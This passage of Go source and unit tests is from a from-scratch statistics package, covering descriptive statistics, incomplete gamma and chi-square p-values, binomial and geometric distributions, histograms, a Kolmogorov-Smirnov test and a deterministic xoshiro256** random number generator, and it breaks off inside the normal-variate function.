	minV, maxV, err := MinMax([]float64{3, -1, 7, 0})
	if err != nil {
		t.Fatal(err)
	}
	if minV != -1 || maxV != 7 {
		t.Errorf("MinMax = (%v,%v), want (-1,7)", minV, maxV)
	}
}

func TestSummarize(t *testing.T) {
	s, err := Summarize([]float64{1, 2, 3, 4, 5})
	if err != nil {
		t.Fatal(err)
	}
	if s.N != 5 || s.Mean != 3 || s.Min != 1 || s.Max != 5 || s.Median != 3 {
		t.Errorf("Summary = %+v", s)
	}
}

func TestMeanBoundsProperty(t *testing.T) {
	f := func(xs []float64) bool {
		// Filter NaN/Inf that quick may generate.
		clean := xs[:0]
		for _, x := range xs {
			if !math.IsNaN(x) && !math.IsInf(x, 0) && math.Abs(x) < 1e100 {
				clean = append(clean, x)
			}
		}
		if len(clean) == 0 {
			return true
		}
		m, err := Mean(clean)
		if err != nil {
			return false
		}
		sorted := append([]float64(nil), clean...)
		sort.Float64s(sorted)
		return m >= sorted[0]-1e-9 && m <= sorted[len(sorted)-1]+1e-9
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func TestIntsToFloats(t *testing.T) {
	got := IntsToFloats([]int{1, -2, 3})
	want := []float64{1, -2, 3}
	if len(got) != len(want) {
		t.Fatalf("length %d", len(got))
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("index %d: %v != %v", i, got[i], want[i])
		}
	}
}

package stats

import (
	"math"
	"testing"
	"testing/quick"
)

func almostEqual(a, b, tol float64) bool {
	return math.Abs(a-b) <= tol
}

func TestGammaPKnownValues(t *testing.T) {
	// P(a,x) reference values (Abramowitz & Stegun / scipy.special.gammainc).
	cases := []struct {
		a, x, want float64
	}{
		{1, 1, 1 - math.Exp(-1)}, // P(1,x) = 1-e^-x
		{1, 2, 1 - math.Exp(-2)},
		{0.5, 0.5, 0.682689492137}, // erf(sqrt(0.5))... P(1/2, x) = erf(sqrt(x))
		{2, 2, 0.593994150290},
		{5, 5, 0.559506714935},
		{10, 3, 0.001102488036},
		{3, 10, 1 - 61*math.Exp(-10)}, // P(3,x) = 1 - e^-x (1 + x + x^2/2)
	}
	for _, c := range cases {
		got, err := GammaP(c.a, c.x)
		if err != nil {
			t.Fatalf("GammaP(%v,%v): %v", c.a, c.x, err)
		}
		if !almostEqual(got, c.want, 1e-9) {
			t.Errorf("GammaP(%v,%v) = %.12f, want %.12f", c.a, c.x, got, c.want)
		}
	}
}

func TestGammaPQComplement(t *testing.T) {
	f := func(aRaw, xRaw uint16) bool {
		a := float64(aRaw%500)/10 + 0.1
		x := float64(xRaw%1000) / 10
		p, err1 := GammaP(a, x)
		q, err2 := GammaQ(a, x)
		if err1 != nil || err2 != nil {
			return false
		}
		return almostEqual(p+q, 1, 1e-10)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Fatal(err)
	}
}

func TestGammaPMonotoneInX(t *testing.T) {
	a := 2.5
	prev := -1.0
	for x := 0.0; x <= 20; x += 0.25 {
		p, err := GammaP(a, x)
		if err != nil {
			t.Fatalf("GammaP(%v,%v): %v", a, x, err)
		}
		if p < prev-1e-12 {
			t.Fatalf("GammaP not monotone at x=%v: %v < %v", x, p, prev)
		}
		prev = p
	}
}

func TestGammaPBoundary(t *testing.T) {
	if p, err := GammaP(3, 0); err != nil || p != 0 {
		t.Fatalf("GammaP(3,0) = %v, %v; want 0, nil", p, err)
	}
	if q, err := GammaQ(3, 0); err != nil || q != 1 {
		t.Fatalf("GammaQ(3,0) = %v, %v; want 1, nil", q, err)
	}
	if _, err := GammaP(-1, 1); err == nil {
		t.Fatal("GammaP(-1,1) should error")
	}
	if _, err := GammaP(1, -1); err == nil {
		t.Fatal("GammaP(1,-1) should error")
	}
	if _, err := GammaQ(0, 1); err == nil {
		t.Fatal("GammaQ(0,1) should error")
	}
}

func TestChiSquareSurvivalKnown(t *testing.T) {
	// Classic critical values: P[chi2_1 >= 3.841] ~= 0.05, P[chi2_1 >= 6.635] ~= 0.01.
	cases := []struct {
		chi2 float64
		df   int
		want float64
		tol  float64
	}{
		{3.841, 1, 0.05, 5e-4},
		{6.635, 1, 0.01, 5e-4},
		{5.991, 2, 0.05, 5e-4},
		{2.706, 1, 0.10, 5e-4},
		{0, 1, 1.0, 1e-12},
	}
	for _, c := range cases {
		got, err := ChiSquareSurvival(c.chi2, c.df)
		if err != nil {
			t.Fatalf("ChiSquareSurvival(%v,%d): %v", c.chi2, c.df, err)
		}
		if !almostEqual(got, c.want, c.tol) {
			t.Errorf("ChiSquareSurvival(%v,%d) = %v, want %v", c.chi2, c.df, got, c.want)
		}
	}
}

func TestChiSquareSurvivalErrors(t *testing.T) {
	if _, err := ChiSquareSurvival(1, 0); err == nil {
		t.Fatal("df=0 should error")
	}
	if _, err := ChiSquareSurvival(-1, 1); err == nil {
		t.Fatal("negative statistic should error")
	}
}

func TestLogChoose(t *testing.T) {
	cases := []struct {
		n, k int
		want float64
	}{
		{5, 2, math.Log(10)},
		{10, 0, 0},
		{10, 10, 0},
		{52, 5, math.Log(2598960)},
	}
	for _, c := range cases {
		if got := LogChoose(c.n, c.k); !almostEqual(got, c.want, 1e-9) {
			t.Errorf("LogChoose(%d,%d) = %v, want %v", c.n, c.k, got, c.want)
		}
	}
	if !math.IsInf(LogChoose(5, 6), -1) {
		t.Error("LogChoose(5,6) should be -Inf")
	}
	if !math.IsInf(LogChoose(5, -1), -1) {
		t.Error("LogChoose(5,-1) should be -Inf")
	}
}

func TestBinomialPMFSumsToOne(t *testing.T) {
	for _, p := range []float64{0, 0.227, 0.5, 1} {
		n := 40
		var sum float64
		for k := 0; k <= n; k++ {
			sum += BinomialPMF(n, k, p)
		}
		if !almostEqual(sum, 1, 1e-9) {
			t.Errorf("BinomialPMF(n=%d,p=%v) sums to %v", n, p, sum)
		}
	}
}

func TestBinomialPMFDegenerate(t *testing.T) {
	if got := BinomialPMF(10, 0, 0); got != 1 {
		t.Errorf("Bin(10,0) at 0 = %v, want 1", got)
	}
	if got := BinomialPMF(10, 10, 1); got != 1 {
		t.Errorf("Bin(10,1) at 10 = %v, want 1", got)
	}
	if got := BinomialPMF(10, 11, 0.5); got != 0 {
		t.Errorf("k>n should be 0, got %v", got)
	}
}

func TestGeometricPMFCDFConsistency(t *testing.T) {
	p := 0.227
	var cum float64
	for k := 0; k < 50; k++ {
		cum += GeometricPMF(k, p)
		if !almostEqual(cum, GeometricCDF(k, p), 1e-12) {
			t.Fatalf("geometric CDF mismatch at k=%d: sum=%v cdf=%v", k, cum, GeometricCDF(k, p))
		}
	}
}

func TestGeometricEdges(t *testing.T) {
	if GeometricPMF(-1, 0.5) != 0 {
		t.Error("PMF at negative k should be 0")
	}
	if GeometricCDF(-1, 0.5) != 0 {
		t.Error("CDF at negative k should be 0")
	}
	if GeometricCDF(5, 1) != 1 {
		t.Error("CDF with p=1 should be 1")
	}
}

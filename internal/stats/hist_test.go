package stats

import (
	"math"
	"strings"
	"testing"
	"testing/quick"
)

func TestHistogramBasics(t *testing.T) {
	h := NewIntHistogram()
	for _, v := range []int{3, 3, 5, 1, 3} {
		h.Add(v)
	}
	if h.Total() != 5 {
		t.Errorf("total = %d, want 5", h.Total())
	}
	if h.Count(3) != 3 || h.Count(5) != 1 || h.Count(2) != 0 {
		t.Errorf("counts wrong: 3->%d 5->%d 2->%d", h.Count(3), h.Count(5), h.Count(2))
	}
	maxV, err := h.Max()
	if err != nil || maxV != 5 {
		t.Errorf("max = %d, %v", maxV, err)
	}
	minV, err := h.Min()
	if err != nil || minV != 1 {
		t.Errorf("min = %d, %v", minV, err)
	}
	m, err := h.Mean()
	if err != nil || !almostEqual(m, 3.0, 1e-12) {
		t.Errorf("mean = %v, %v", m, err)
	}
}

func TestHistogramEmpty(t *testing.T) {
	h := NewIntHistogram()
	if _, err := h.Max(); err == nil {
		t.Error("Max on empty should error")
	}
	if _, err := h.Min(); err == nil {
		t.Error("Min on empty should error")
	}
	if _, err := h.Mean(); err == nil {
		t.Error("Mean on empty should error")
	}
	if _, err := h.PMF(); err == nil {
		t.Error("PMF on empty should error")
	}
	if _, err := h.QuantileValue(0.5); err == nil {
		t.Error("Quantile on empty should error")
	}
	if h.CDFAt(10) != 0 {
		t.Error("CDF on empty should be 0")
	}
	if !strings.Contains(h.Render(5, 1), "empty") {
		t.Error("Render on empty should note emptiness")
	}
}

func TestHistogramAddN(t *testing.T) {
	h := NewIntHistogram()
	h.AddN(7, 10)
	h.AddN(7, 0)
	h.AddN(7, -3)
	if h.Count(7) != 10 || h.Total() != 10 {
		t.Errorf("AddN: count=%d total=%d", h.Count(7), h.Total())
	}
}

func TestHistogramPMFSumsToOne(t *testing.T) {
	h := NewIntHistogram()
	r := NewRNG(5)
	for i := 0; i < 1000; i++ {
		h.Add(r.Intn(40))
	}
	pmf, err := h.PMF()
	if err != nil {
		t.Fatal(err)
	}
	var sum float64
	for _, p := range pmf {
		sum += p
	}
	if !almostEqual(sum, 1, 1e-9) {
		t.Errorf("PMF sums to %v", sum)
	}
}

func TestHistogramCDFMonotone(t *testing.T) {
	h := NewIntHistogram()
	r := NewRNG(9)
	for i := 0; i < 500; i++ {
		h.Add(r.Intn(30))
	}
	prev := 0.0
	for x := -1; x <= 31; x++ {
		c := h.CDFAt(x)
		if c < prev {
			t.Fatalf("CDF not monotone at %d: %v < %v", x, c, prev)
		}
		prev = c
	}
	if !almostEqual(h.CDFAt(29), 1, 1e-12) {
		t.Errorf("CDF at max = %v, want 1", h.CDFAt(29))
	}
}

func TestHistogramQuantile(t *testing.T) {
	h := NewIntHistogram()
	for v := 1; v <= 100; v++ {
		h.Add(v)
	}
	for _, c := range []struct {
		q    float64
		want int
	}{{0.01, 1}, {0.5, 50}, {0.99, 99}, {1.0, 100}} {
		got, err := h.QuantileValue(c.q)
		if err != nil {
			t.Fatal(err)
		}
		if got != c.want {
			t.Errorf("QuantileValue(%v) = %d, want %d", c.q, got, c.want)
		}
	}
	if _, err := h.QuantileValue(-0.1); err == nil {
		t.Error("negative quantile should error")
	}
}

func TestHistogramRender(t *testing.T) {
	h := NewIntHistogram()
	h.AddN(0, 3)
	h.AddN(12, 5)
	out := h.Render(10, 1)
	if !strings.Contains(out, "#####") {
		t.Errorf("render missing bars:\n%s", out)
	}
	lines := strings.Count(out, "\n")
	if lines != 2 {
		t.Errorf("render has %d lines, want 2 buckets:\n%s", lines, out)
	}
	// Degenerate parameters must not panic or divide by zero.
	_ = h.Render(0, 0)
}

func TestHistogramValuesRoundTrip(t *testing.T) {
	h := NewIntHistogram()
	input := []int{5, 2, 2, 9}
	for _, v := range input {
		h.Add(v)
	}
	vals := h.Values()
	if len(vals) != len(input) {
		t.Fatalf("Values length %d, want %d", len(vals), len(input))
	}
	s, err := Summarize(vals)
	if err != nil {
		t.Fatal(err)
	}
	if s.Min != 2 || s.Max != 9 {
		t.Errorf("summary %+v", s)
	}
}

func TestHistogramMeanMatchesDirect(t *testing.T) {
	f := func(raw []uint8) bool {
		if len(raw) == 0 {
			return true
		}
		h := NewIntHistogram()
		var sum float64
		for _, v := range raw {
			h.Add(int(v))
			sum += float64(v)
		}
		m, err := h.Mean()
		if err != nil {
			return false
		}
		return math.Abs(m-sum/float64(len(raw))) < 1e-9
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

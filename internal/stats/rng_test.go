package stats

import (
	"math"
	"testing"
	"testing/quick"
)

func TestRNGDeterminism(t *testing.T) {
	a := NewRNG(42)
	b := NewRNG(42)
	for i := 0; i < 1000; i++ {
		if got, want := a.Uint64(), b.Uint64(); got != want {
			t.Fatalf("stream diverged at step %d: %d != %d", i, got, want)
		}
	}
}

func TestRNGSeedsDiffer(t *testing.T) {
	a := NewRNG(1)
	b := NewRNG(2)
	same := 0
	for i := 0; i < 100; i++ {
		if a.Uint64() == b.Uint64() {
			same++
		}
	}
	if same > 0 {
		t.Fatalf("distinct seeds produced %d identical values out of 100", same)
	}
}

func TestRNGZeroSeedUsable(t *testing.T) {
	r := NewRNG(0)
	var nonzero bool
	for i := 0; i < 16; i++ {
		if r.Uint64() != 0 {
			nonzero = true
		}
	}
	if !nonzero {
		t.Fatal("zero seed produced an all-zero stream")
	}
}

func TestIntnBounds(t *testing.T) {
	r := NewRNG(7)
	for _, n := range []int{1, 2, 3, 10, 95, 1 << 20} {
		for i := 0; i < 200; i++ {
			v := r.Intn(n)
			if v < 0 || v >= n {
				t.Fatalf("Intn(%d) = %d out of range", n, v)
			}
		}
	}
}

func TestIntnPanicsOnNonPositive(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Fatal("Intn(0) did not panic")
		}
	}()
	NewRNG(1).Intn(0)
}

func TestIntnUniformity(t *testing.T) {
	r := NewRNG(99)
	const n, trials = 10, 100000
	counts := make([]float64, n)
	for i := 0; i < trials; i++ {
		counts[r.Intn(n)]++
	}
	expected := make([]float64, n)
	for i := range expected {
		expected[i] = trials / float64(n)
	}
	res, err := ChiSquareGoodnessOfFit(counts, expected, 0)
	if err != nil {
		t.Fatalf("goodness of fit: %v", err)
	}
	if res.PValue < 1e-4 {
		t.Fatalf("Intn output is grossly non-uniform: chi2=%.2f p=%g", res.Statistic, res.PValue)
	}
}

func TestFloat64Range(t *testing.T) {
	r := NewRNG(5)
	for i := 0; i < 10000; i++ {
		f := r.Float64()
		if f < 0 || f >= 1 {
			t.Fatalf("Float64() = %v out of [0,1)", f)
		}
	}
}

func TestBernoulliExtremes(t *testing.T) {
	r := NewRNG(3)
	for i := 0; i < 100; i++ {
		if r.Bernoulli(0) {
			t.Fatal("Bernoulli(0) returned true")
		}
		if !r.Bernoulli(1) {
			t.Fatal("Bernoulli(1) returned false")
		}
	}
}

func TestBernoulliMean(t *testing.T) {
	r := NewRNG(11)
	const trials = 200000
	for _, p := range []float64{0.1, 0.227, 0.5, 0.9} {
		hits := 0
		for i := 0; i < trials; i++ {
			if r.Bernoulli(p) {
				hits++
			}
		}
		got := float64(hits) / trials
		if math.Abs(got-p) > 0.01 {
			t.Errorf("Bernoulli(%v) empirical mean %v, want within 0.01", p, got)
		}
	}
}

func TestPermIsPermutation(t *testing.T) {
	r := NewRNG(8)
	for _, n := range []int{0, 1, 2, 17, 100} {
		p := r.Perm(n)
		if len(p) != n {
			t.Fatalf("Perm(%d) length %d", n, len(p))
		}
		seen := make([]bool, n)
		for _, v := range p {
			if v < 0 || v >= n || seen[v] {
				t.Fatalf("Perm(%d) = %v is not a permutation", n, p)
			}
			seen[v] = true
		}
	}
}

func TestGeometricMean(t *testing.T) {
	r := NewRNG(13)
	const trials = 100000
	for _, p := range []float64{0.175, 0.3, 0.7} {
		var sum float64
		for i := 0; i < trials; i++ {
			sum += float64(r.Geometric(p))
		}
		got := sum / trials
		want := (1 - p) / p
		if math.Abs(got-want) > 0.05*want+0.01 {
			t.Errorf("Geometric(%v) mean %v, want ~%v", p, got, want)
		}
	}
}

func TestGeometricOne(t *testing.T) {
	r := NewRNG(1)
	for i := 0; i < 100; i++ {
		if v := r.Geometric(1); v != 0 {
			t.Fatalf("Geometric(1) = %d, want 0", v)
		}
	}
}

func TestGeometricPanicsOutOfRange(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Fatal("Geometric(0) did not panic")
		}
	}()
	NewRNG(1).Geometric(0)
}

func TestWeightedChoice(t *testing.T) {
	r := NewRNG(21)
	weights := []float64{0, 1, 0, 3}
	counts := make([]int, len(weights))
	for i := 0; i < 40000; i++ {
		counts[r.WeightedChoice(weights)]++
	}
	if counts[0] != 0 || counts[2] != 0 {
		t.Fatalf("zero-weight indices chosen: %v", counts)
	}
	ratio := float64(counts[3]) / float64(counts[1])
	if math.Abs(ratio-3) > 0.3 {
		t.Fatalf("weight ratio %v, want ~3", ratio)
	}
}

func TestNormFloat64Moments(t *testing.T) {
	r := NewRNG(17)
	const trials = 100000
	var sum, sumSq float64
	for i := 0; i < trials; i++ {
		v := r.NormFloat64()
		sum += v
		sumSq += v * v
	}
	mean := sum / trials
	variance := sumSq/trials - mean*mean
	if math.Abs(mean) > 0.02 {
		t.Errorf("normal mean %v, want ~0", mean)
	}
	if math.Abs(variance-1) > 0.03 {
		t.Errorf("normal variance %v, want ~1", variance)
	}
}

func TestIntnPropertyInRange(t *testing.T) {
	r := NewRNG(77)
	f := func(seed uint64, nRaw uint16) bool {
		n := int(nRaw%1000) + 1
		v := r.Intn(n)
		return v >= 0 && v < n
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func TestMul64MatchesBig(t *testing.T) {
	f := func(a, b uint64) bool {
		_, lo := mul64(a, b)
		// Low half must match wrapping multiplication.
		if a*b != lo {
			return false
		}
		// For 32-bit operands the product fits in 64 bits, so hi must be 0
		// and lo exact.
		a32, b32 := a&0xffffffff, b&0xffffffff
		h2, l2 := mul64(a32, b32)
		return h2 == 0 && l2 == a32*b32
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 2000}); err != nil {
		t.Fatal(err)
	}
	// Known vectors.
	hi, lo := mul64(math.MaxUint64, math.MaxUint64)
	if hi != math.MaxUint64-1 || lo != 1 {
		t.Fatalf("mul64(max,max) = (%d,%d), want (%d,1)", hi, lo, uint64(math.MaxUint64-1))
	}
}

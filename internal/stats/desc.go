package stats

import (
	"errors"
	"math"
	"sort"
)

// ErrEmpty reports a descriptive statistic requested over an empty sample.
var ErrEmpty = errors.New("stats: empty sample")

// Mean returns the arithmetic mean of xs.
func Mean(xs []float64) (float64, error) {
	if len(xs) == 0 {
		return 0, ErrEmpty
	}
	var sum float64
	for _, x := range xs {
		sum += x
	}
	return sum / float64(len(xs)), nil
}

// Variance returns the unbiased sample variance of xs (n-1 denominator).
func Variance(xs []float64) (float64, error) {
	if len(xs) < 2 {
		return 0, errors.New("stats: variance needs >= 2 samples")
	}
	m, _ := Mean(xs)
	var ss float64
	for _, x := range xs {
		d := x - m
		ss += d * d
	}
	return ss / float64(len(xs)-1), nil
}

// StdDev returns the unbiased sample standard deviation.
func StdDev(xs []float64) (float64, error) {
	v, err := Variance(xs)
	if err != nil {
		return 0, err
	}
	return math.Sqrt(v), nil
}

// Quantile returns the q-quantile (0 <= q <= 1) of xs using linear
// interpolation between order statistics (type-7, the R/NumPy default).
func Quantile(xs []float64, q float64) (float64, error) {
	if len(xs) == 0 {
		return 0, ErrEmpty
	}
	if q < 0 || q > 1 {
		return 0, errors.New("stats: quantile q must be in [0,1]")
	}
	sorted := append([]float64(nil), xs...)
	sort.Float64s(sorted)
	if len(sorted) == 1 {
		return sorted[0], nil
	}
	pos := q * float64(len(sorted)-1)
	lo := int(math.Floor(pos))
	hi := int(math.Ceil(pos))
	if lo == hi {
		return sorted[lo], nil
	}
	frac := pos - float64(lo)
	return sorted[lo]*(1-frac) + sorted[hi]*frac, nil
}

// MinMax returns the minimum and maximum of xs.
func MinMax(xs []float64) (minV, maxV float64, err error) {
	if len(xs) == 0 {
		return 0, 0, ErrEmpty
	}
	minV, maxV = xs[0], xs[0]
	for _, x := range xs[1:] {
		if x < minV {
			minV = x
		}
		if x > maxV {
			maxV = x
		}
	}
	return minV, maxV, nil
}

// Summary bundles the usual descriptive statistics of a sample.
type Summary struct {
	N      int
	Mean   float64
	StdDev float64
	Min    float64
	Median float64
	Max    float64
}

// Summarize computes a Summary of xs.
func Summarize(xs []float64) (Summary, error) {
	if len(xs) == 0 {
		return Summary{}, ErrEmpty
	}
	m, _ := Mean(xs)
	sd := 0.0
	if len(xs) >= 2 {
		sd, _ = StdDev(xs)
	}
	minV, maxV, _ := MinMax(xs)
	med, _ := Quantile(xs, 0.5)
	return Summary{N: len(xs), Mean: m, StdDev: sd, Min: minV, Median: med, Max: maxV}, nil
}

// IntsToFloats converts an int sample to float64 for the statistics above.
func IntsToFloats(xs []int) []float64 {
	out := make([]float64, len(xs))
	for i, x := range xs {
		out[i] = float64(x)
	}
	return out
}

package stats

import (
	"testing"
)

func TestKSValidation(t *testing.T) {
	if _, err := KolmogorovSmirnov(nil, []float64{1}); err == nil {
		t.Error("empty sample should fail")
	}
	if _, err := KolmogorovSmirnov([]float64{1}, nil); err == nil {
		t.Error("empty sample should fail")
	}
}

func TestKSIdenticalSamples(t *testing.T) {
	r := NewRNG(1)
	xs := make([]float64, 500)
	for i := range xs {
		xs[i] = r.Float64()
	}
	res, err := KolmogorovSmirnov(xs, xs)
	if err != nil {
		t.Fatal(err)
	}
	if res.Statistic > 1e-9 {
		t.Errorf("identical samples have D = %v", res.Statistic)
	}
	if res.PValue < 0.99 {
		t.Errorf("identical samples p = %v", res.PValue)
	}
}

func TestKSSameDistribution(t *testing.T) {
	r := NewRNG(2)
	a := make([]float64, 800)
	b := make([]float64, 800)
	for i := range a {
		a[i] = r.NormFloat64()
		b[i] = r.NormFloat64()
	}
	res, err := KolmogorovSmirnov(a, b)
	if err != nil {
		t.Fatal(err)
	}
	if res.PValue < 1e-3 {
		t.Errorf("same-distribution samples rejected: D=%v p=%v", res.Statistic, res.PValue)
	}
}

func TestKSDifferentDistributions(t *testing.T) {
	r := NewRNG(3)
	a := make([]float64, 500)
	b := make([]float64, 500)
	for i := range a {
		a[i] = r.NormFloat64()
		b[i] = r.NormFloat64() + 1 // shifted mean
	}
	res, err := KolmogorovSmirnov(a, b)
	if err != nil {
		t.Fatal(err)
	}
	if res.PValue > 1e-6 {
		t.Errorf("shifted distributions not rejected: D=%v p=%v", res.Statistic, res.PValue)
	}
}

func TestKSKnownSmallCase(t *testing.T) {
	// a fully below b: D = 1.
	a := []float64{1, 2, 3}
	b := []float64{10, 11, 12}
	res, err := KolmogorovSmirnov(a, b)
	if err != nil {
		t.Fatal(err)
	}
	if res.Statistic != 1 {
		t.Errorf("disjoint samples D = %v, want 1", res.Statistic)
	}
	if res.PValue > 0.1 {
		t.Errorf("disjoint samples p = %v", res.PValue)
	}
}

func TestKSSurvivalBounds(t *testing.T) {
	if ksSurvival(0) != 1 || ksSurvival(-1) != 1 {
		t.Error("Q(<=0) must be 1")
	}
	if q := ksSurvival(10); q > 1e-10 {
		t.Errorf("Q(10) = %v", q)
	}
	prev := 1.0
	for l := 0.1; l < 3; l += 0.1 {
		q := ksSurvival(l)
		if q > prev+1e-12 {
			t.Fatalf("Q not monotone at %v", l)
		}
		prev = q
	}
}

package stats

import (
	"errors"
	"math"
)

// ErrNoConverge reports that an iterative special-function evaluation did
// not converge; it indicates parameters far outside the supported range.
var ErrNoConverge = errors.New("stats: series did not converge")

const (
	_gammaEps     = 3e-14
	_gammaItMax   = 500
	_gammaFPMin   = 1e-300
	_gammaTiny    = 1e-308
	_maxChiSquare = 1e8
)

// GammaP computes the regularized lower incomplete gamma function
// P(a, x) = γ(a, x) / Γ(a) for a > 0, x >= 0.
func GammaP(a, x float64) (float64, error) {
	if a <= 0 || x < 0 || math.IsNaN(a) || math.IsNaN(x) {
		return 0, errors.New("stats: GammaP needs a > 0 and x >= 0")
	}
	if x == 0 {
		return 0, nil
	}
	if x < a+1 {
		p, err := gammaSeries(a, x)
		return p, err
	}
	q, err := gammaContFrac(a, x)
	return 1 - q, err
}

// GammaQ computes the regularized upper incomplete gamma function
// Q(a, x) = 1 - P(a, x).
func GammaQ(a, x float64) (float64, error) {
	if a <= 0 || x < 0 || math.IsNaN(a) || math.IsNaN(x) {
		return 0, errors.New("stats: GammaQ needs a > 0 and x >= 0")
	}
	if x == 0 {
		return 1, nil
	}
	if x < a+1 {
		p, err := gammaSeries(a, x)
		return 1 - p, err
	}
	return gammaContFrac(a, x)
}

// gammaSeries evaluates P(a,x) by its power series, valid for x < a+1.
func gammaSeries(a, x float64) (float64, error) {
	lg, _ := math.Lgamma(a)
	ap := a
	sum := 1 / a
	del := sum
	for i := 0; i < _gammaItMax; i++ {
		ap++
		del *= x / ap
		sum += del
		if math.Abs(del) < math.Abs(sum)*_gammaEps {
			return sum * math.Exp(-x+a*math.Log(x)-lg), nil
		}
	}
	return 0, ErrNoConverge
}

// gammaContFrac evaluates Q(a,x) by Lentz's continued fraction, valid for
// x >= a+1.
func gammaContFrac(a, x float64) (float64, error) {
	lg, _ := math.Lgamma(a)
	b := x + 1 - a
	c := 1 / _gammaFPMin
	d := 1 / b
	h := d
	for i := 1; i <= _gammaItMax; i++ {
		an := -float64(i) * (float64(i) - a)
		b += 2
		d = an*d + b
		if math.Abs(d) < _gammaFPMin {
			d = _gammaFPMin
		}
		c = b + an/c
		if math.Abs(c) < _gammaFPMin {
			c = _gammaFPMin
		}
		d = 1 / d
		del := d * c
		h *= del
		if math.Abs(del-1) < _gammaEps {
			return math.Exp(-x+a*math.Log(x)-lg) * h, nil
		}
	}
	return 0, ErrNoConverge
}

// ChiSquareSurvival returns P[X >= chi2] for a chi-square distribution
// with df degrees of freedom — the p-value of a chi-square statistic.
func ChiSquareSurvival(chi2 float64, df int) (float64, error) {
	if df <= 0 {
		return 0, errors.New("stats: chi-square needs df >= 1")
	}
	if chi2 < 0 || chi2 > _maxChiSquare {
		return 0, errors.New("stats: chi-square statistic out of range")
	}
	return GammaQ(float64(df)/2, chi2/2)
}

// LogChoose returns log(n choose k) computed via log-gamma, stable for
// large n where the direct binomial coefficient overflows.
func LogChoose(n, k int) float64 {
	if k < 0 || k > n {
		return math.Inf(-1)
	}
	ln, _ := math.Lgamma(float64(n + 1))
	lk, _ := math.Lgamma(float64(k + 1))
	lnk, _ := math.Lgamma(float64(n - k + 1))
	return ln - lk - lnk
}

// BinomialPMF returns P[Bin(n,p) = k] computed in log space.
func BinomialPMF(n, k int, p float64) float64 {
	if k < 0 || k > n || p < 0 || p > 1 {
		return 0
	}
	if p == 0 {
		if k == 0 {
			return 1
		}
		return 0
	}
	if p == 1 {
		if k == n {
			return 1
		}
		return 0
	}
	lp := LogChoose(n, k) + float64(k)*math.Log(p) + float64(n-k)*math.Log1p(-p)
	return math.Exp(lp)
}

// GeometricPMF returns P[X = k] for the number of failures before the
// first success, X ~ Geom(p), support {0, 1, ...}.
func GeometricPMF(k int, p float64) float64 {
	if k < 0 || p <= 0 || p > 1 {
		return 0
	}
	return p * math.Pow(1-p, float64(k))
}

// GeometricCDF returns P[X <= k] for X ~ Geom(p) on {0, 1, ...}.
func GeometricCDF(k int, p float64) float64 {
	if k < 0 {
		return 0
	}
	if p <= 0 {
		return 0
	}
	if p >= 1 {
		return 1
	}
	return 1 - math.Pow(1-p, float64(k+1))
}

// Package stats provides the statistical substrate used throughout the
// repository: a deterministic random number generator for reproducible
// experiments, discrete distributions, histogram utilities, descriptive
// statistics, and Pearson's chi-square independence test with p-values
// computed from the regularized incomplete gamma function.
//
// Everything here is implemented from scratch on top of the standard
// library so that experiment outputs are bit-for-bit reproducible across
// machines and Go releases.
package stats

import "math"

// RNG is a deterministic pseudo-random number generator based on the
// splitmix64 / xoshiro256** construction. It is intentionally independent
// of math/rand so that corpus generation and Monte-Carlo runs reproduce
// exactly regardless of the Go release.
//
// The zero value is not usable; construct with NewRNG.
type RNG struct {
	s [4]uint64
}

// NewRNG returns a generator seeded deterministically from seed.
// Distinct seeds yield statistically independent streams.
func NewRNG(seed uint64) *RNG {
	r := &RNG{}
	// splitmix64 expansion of the seed into the xoshiro state, per
	// Blackman & Vigna's recommendation.
	x := seed
	for i := range r.s {
		x += 0x9e3779b97f4a7c15
		z := x
		z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9
		z = (z ^ (z >> 27)) * 0x94d049bb133111eb
		z ^= z >> 31
		r.s[i] = z
	}
	// Avoid the theoretical all-zero state.
	if r.s[0]|r.s[1]|r.s[2]|r.s[3] == 0 {
		r.s[0] = 0x9e3779b97f4a7c15
	}
	return r
}

func rotl(x uint64, k uint) uint64 { return (x << k) | (x >> (64 - k)) }

// Uint64 returns the next 64 random bits.
func (r *RNG) Uint64() uint64 {
	result := rotl(r.s[1]*5, 7) * 9
	t := r.s[1] << 17
	r.s[2] ^= r.s[0]
	r.s[3] ^= r.s[1]
	r.s[1] ^= r.s[2]
	r.s[0] ^= r.s[3]
	r.s[2] ^= t
	r.s[3] = rotl(r.s[3], 45)
	return result
}

// Intn returns a uniform integer in [0, n). It panics if n <= 0, matching
// the contract of math/rand.Intn; callers control n so this is a
// programming error, not an input error.
func (r *RNG) Intn(n int) int {
	if n <= 0 {
		panic("stats: Intn called with non-positive n")
	}
	// Lemire's nearly-divisionless bounded generation.
	bound := uint64(n)
	x := r.Uint64()
	hi, lo := mul64(x, bound)
	if lo < bound {
		threshold := (-bound) % bound
		for lo < threshold {
			x = r.Uint64()
			hi, lo = mul64(x, bound)
		}
	}
	return int(hi)
}

// mul64 returns the 128-bit product of a and b as (hi, lo).
func mul64(a, b uint64) (hi, lo uint64) {
	const mask32 = 1<<32 - 1
	aLo, aHi := a&mask32, a>>32
	bLo, bHi := b&mask32, b>>32
	t := aLo * bLo
	lo = t & mask32
	c := t >> 32
	t = aHi*bLo + c
	mid := t & mask32
	hiPart := t >> 32
	t = aLo*bHi + mid
	lo |= t << 32
	hi = aHi*bHi + hiPart + t>>32
	return hi, lo
}

// Float64 returns a uniform float64 in [0, 1).
func (r *RNG) Float64() float64 {
	return float64(r.Uint64()>>11) / (1 << 53)
}

// Bernoulli returns true with probability p.
func (r *RNG) Bernoulli(p float64) bool {
	return r.Float64() < p
}

// Byte returns a uniform random byte.
func (r *RNG) Byte() byte { return byte(r.Uint64()) }

// Perm returns a random permutation of [0, n) using Fisher-Yates.
func (r *RNG) Perm(n int) []int {
	p := make([]int, n)
	for i := range p {
		p[i] = i
	}
	for i := n - 1; i > 0; i-- {
		j := r.Intn(i + 1)
		p[i], p[j] = p[j], p[i]
	}
	return p
}

// NormFloat64 returns a standard normal variate via the Box-Muller
// transform (polar rejection form, deterministic with the stream).
func (r *RNG) NormFloat64() float64 {
